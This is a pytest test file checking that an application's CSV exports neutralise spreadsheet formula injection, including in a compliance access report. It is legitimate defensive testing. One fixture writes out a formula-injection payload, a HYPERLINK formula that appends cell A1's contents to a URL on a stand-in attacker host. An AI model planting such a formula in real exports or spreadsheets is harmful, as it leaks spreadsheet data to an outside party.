"""CSV exports cannot carry a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy.orm import Session

from memberdesk import csvsafe
from memberdesk.compliance.enums import Role
from tests import factories as f


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_leading_text_is_neutralised(lead: str) -> None:
    assert csvsafe.neutralise(f'{lead}HYPERLINK("http://x")') == f'\'{lead}HYPERLINK("http://x")'


def test_other_values_are_unchanged() -> None:
    assert csvsafe.neutralise("Alex") == "Alex"
    assert csvsafe.neutralise(-3) == -3  # a negative number is data
    assert csvsafe.neutralise(None) is None
    buf = io.StringIO()
    csvsafe.writer(buf).writerow(["=1+1", 2, "ok"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+1", "2", "ok"]


def test_access_report_csv_neutralises_a_member_name_formula(login, db: Session) -> None:
    m = f.member(db, first_name='=HYPERLINK("http://evil.example/?x="&A1)', last_name="Plain")
    agent = login(Role.TIER1_AGENT)
    assert agent.client.get(f"/api/members/{m.id}").status_code == 200
    officer = login(Role.COMPLIANCE_OFFICER)
    report = officer.client.get(
        f"/api/compliance/access/member/{m.id}",
        params={"start": "2020-01-01", "end": "2199-12-31", "format": "csv"},
    )
    assert report.status_code == 200
    rows = list(csv.DictReader(io.StringIO(report.text)))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(csvsafe.FORMULA_LEADS), value
    assert any(r["member_name"].startswith("'=HYPERLINK") for r in rows)
